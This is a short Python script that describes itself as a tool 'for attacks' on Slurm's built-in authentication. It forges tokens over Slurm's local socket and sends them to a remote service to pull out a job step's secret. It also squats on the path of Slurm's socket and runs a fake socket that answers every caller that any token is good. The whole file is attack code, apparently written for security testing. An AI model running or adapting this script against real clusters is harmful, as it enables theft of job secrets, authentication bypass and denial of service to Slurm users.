# SPDX-License-Identifier: Apache-2.0
"""Tokens of Slurm's own authentication (AuthType=auth/slurm), for attacks.

slurm_token.py make READER TEXT...     a token of this user over that text, which only
                                 the uid READER may verify
slurm_token.py ask HOST PORT TOKEN     show it as a question for a step's secret;
                                 prints what is answered, or "closed"
slurm_token.py ask HOST PORT munge     the question of the other kind
slurm_token.py squat PATH              listen where Slurm's socket would be; "ready"
slurm_token.py lie PATH                the same, and who asks is told that any token is
                                 good; "asked"
"""
import glob
import os
import socket
import struct
import sys

MARK = b"dist-train: a token for it: ..."


def call(kind, body):
    for path in glob.glob("/run/slurm*/sack.socket"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
        except OSError:
            continue
        s.sendall(struct.pack(">HII", 0x2800, 8 + len(body), kind) + body)
        return s.makefile("rb").read()
    sys.exit("no socket of Slurm's")


def make(reader, *words):
    text = " ".join(words).encode()
    body = struct.pack(">II", int(reader), len(text)) + text
    print(call(64001, body)[4:].rstrip(b"\0").decode())


def ask(host, port, token):
    s = socket.create_connection((host, int(port)), timeout=20)
    if token == "munge":
        question = b"dist-train: the step's secret?"
        s.sendall(question.ljust(32, b"\0"))
    else:
        s.sendall(MARK.ljust(32, b"\0") + struct.pack(">I", len(token)) +
                  token.encode())
    try:
        answer = s.makefile("rb").read()
    except ConnectionError:
        answer = b""
    # Another question than the server's kind begins a connection, sealed by the
    # secret: these bytes are none of an answer
    print(answer.decode(errors="replace").strip() if b"dist-train: " in answer
          or b"MUNGE:" in answer else "closed")


def listen(path):
    s = socket.socket(socket.AF_UNIX)
    if os.path.exists(path):
        os.unlink(path)
    s.bind(path)
    os.chmod(path, 0o777)
    s.listen(100)
    print("ready", flush=True)
    return s


def squat(path):
    s = listen(path)
    kept = []
    while True:
        kept.append(s.accept())


def lie(path):
    s = listen(path)
    while True:
        caller = s.accept()[0]
        if caller.recv(10000):
            print("asked", flush=True)
            caller.sendall(bytes(4))
        caller.close()


globals()[sys.argv[1]](*sys.argv[2:])
